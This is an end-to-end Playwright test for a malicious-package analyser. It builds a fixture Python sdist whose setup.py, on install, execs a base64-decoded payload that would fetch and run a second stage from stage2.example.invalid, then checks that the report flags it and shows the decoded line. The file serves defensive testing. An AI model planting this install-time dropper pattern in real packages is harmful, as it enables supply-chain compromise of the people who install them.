import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import AxeBuilder from '@axe-core/playwright';
import { type Page, expect, test } from '@playwright/test';
import { expectLive, screenshot, watchForPageProblems } from './support/page-helpers';
import { Stack } from './support/stack';

// The report an analyst acts on, on a real stack (api, workers, nginx, Chromium): an uploaded
// package whose install-time code execs a decoded literal. The page must start with that
// line, draw its data flow source → sink, and unfold the decoded payload beside it.

const stack = new Stack({ name: 'report', workers: 1, apiEnv: { DISPATCH_RATE_LIMIT: '0' } });

interface ApiReport {
  verdict: string;
  findings: {
    rule: string;
    title: string;
    file: string;
    line: number | null;
    end_line?: number | null;
    decoded: string;
    chain: { role: string; file: string; line: number | null; text: string }[];
  }[];
}

function jobIdFromUrl(page: Page): string {
  const match = /\/jobs\/([^/?#]+)$/.exec(new URL(page.url()).pathname);
  if (!match?.[1]) throw new Error(`not on a job page: ${page.url()}`);
  return decodeURIComponent(match[1]);
}

async function expectNoSeriousA11yProblems(page: Page) {
  const a11y = await new AxeBuilder({ page }).withTags(['wcag2a', 'wcag2aa']).analyze();
  const serious = a11y.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical');
  expect(serious.map((v) => `${v.id}: ${v.help} (${v.nodes.length})`)).toEqual([]);
}

test.describe.configure({ mode: 'serial' });
test.beforeAll(async () => {
  test.setTimeout(90_000);
  await stack.start();
});
test.afterAll(async () => {
  await stack.stop();
});

// A harmless stand-in for an install-time dropper: setup.py base64-decodes a literal and
// execs it from a custom install command; the decoded code would fetch and run a second
// stage from a host under example.invalid (which cannot resolve). Nothing here is ever run:
// the api reads the archive as bytes.
const DROPPER_PAYLOAD = [
  'import urllib.request',
  'print("a harmless fixture: nothing is fetched")',
  'exec(urllib.request.urlopen("https://stage2.example.invalid/next.py").read())',
].join('\n');
const DROPPER_SETUP = `import base64
from setuptools import setup
from setuptools.command.install import install

BLOB = "${Buffer.from(DROPPER_PAYLOAD).toString('base64')}"


class PostInstall(install):
    def run(self):
        install.run(self)
        exec(
            base64.b64decode(BLOB)
        )


setup(name="chain-demo", version="0.0.1", cmdclass={"install": PostInstall})
`;

function dropperSdist(): string {
  const dir = mkdtempSync(join(tmpdir(), 'packamal-e2e-'));
  const top = join(dir, 'chain-demo-0.0.1');
  mkdirSync(top);
  writeFileSync(join(top, 'setup.py'), DROPPER_SETUP);
  writeFileSync(join(top, 'PKG-INFO'), 'Metadata-Version: 2.1\nName: chain-demo\nVersion: 0.0.1\n');
  const archive = join(dir, 'chain-demo-0.0.1.tar.gz');
  execFileSync('tar', ['-czf', archive, '-C', dir, 'chain-demo-0.0.1']);
  return archive;
}

test('a dropper fixture: the page starts with the payload line, draws its data flow and unfolds the decoded payload', async ({ page, request }, testInfo) => {
  const problems = watchForPageProblems(page);
  await page.goto(stack.webUrl);
  await expectLive(page);
  const panel = page.getByRole('region', { name: 'Analyse a package' });
  await panel.getByRole('tab', { name: 'Archive' }).click();
  await panel.getByLabel('Package archive').setInputFiles(dropperSdist());
  await panel.getByLabel('Ecosystem').selectOption('pypi');
  await panel.getByRole('button', { name: 'Upload and analyse' }).click();
  await expect(page).toHaveURL(/\/jobs\/[0-9a-f-]{36}$/);
  const jobId = jobIdFromUrl(page);
  await expect(page.locator('.job-page')).toHaveAttribute('data-status', 'completed', { timeout: 90_000 });

  const report = (await (await request.get(`${stack.webUrl}/api/jobs/${jobId}/report`)).json()) as ApiReport;
  expect(report.verdict).toBe('malicious');
  // The api's first finding is the payload line: the exec that runs the decoded literal.
  const top = report.findings[0];
  expect(top?.file).toBe('chain-demo-0.0.1/setup.py');
  expect(top?.decoded).toContain('a harmless fixture: nothing is fetched');
  expect(top?.chain.map((step) => step.role)).toEqual(expect.arrayContaining(['source', 'sink']));
  if (!top) return;

  const first = page.getByRole('region', { name: 'Read this first' });
  await expect(first.locator('h5')).toContainText(top.title);
  await expect(first).toContainText('in sdist chain-demo-0.0.1.tar.gz');
  if (top.end_line && top.line && top.end_line > top.line) {
    await expect(first).toContainText(`chain-demo-0.0.1/setup.py:${top.line}-${top.end_line}`);
  }
  const steps = first.getByRole('list', { name: 'Data flow, source to sink' }).getByRole('listitem');
  await expect(steps).toHaveCount(top.chain.length);
  for (const [index, step] of top.chain.entries()) {
    await expect(steps.nth(index)).toHaveAttribute('data-role', step.role);
    if (step.line) await expect(steps.nth(index)).toContainText(`${step.file}:${step.line}`);
  }
  const decoded = first.locator('details.decoded');
  await expect(decoded).not.toHaveAttribute('open', '');
  await expect(first.getByLabel(/^Decoded payload of the literal at/)).toBeHidden();
  await first.getByText('Decoded payload').click();
  await expect(first.getByLabel(/^Decoded payload of the literal at/)).toContainText(
    'exec(urllib.request.urlopen("https://stage2.example.invalid/next.py").read())',
  );

  // SARIF carries the same flow.
  const sarif = (await (await request.get(`${stack.webUrl}/api/jobs/${jobId}/report?format=sarif`)).json()) as {
    runs: { results: { relatedLocations?: { properties: { role: string } }[]; partialFingerprints: Record<string, string> }[] }[];
  };
  const result = sarif.runs[0]?.results[0];
  expect(result?.relatedLocations?.map((loc) => loc.properties.role)).toEqual(top.chain.map((step) => step.role));
  expect(Object.keys(result?.partialFingerprints ?? {})).toContain('packamalFinding/v1');

  await expectNoSeriousA11yProblems(page);
  // docs/report-chain.png: from the verdict down to the data flow of the first finding.
  await page.setViewportSize({ width: 1400, height: 1300 });
  await page.locator('.report').evaluate((element) => element.scrollIntoView());
  await screenshot(page, testInfo, 'report-chain', false);
  expect(problems).toEqual([]);
});
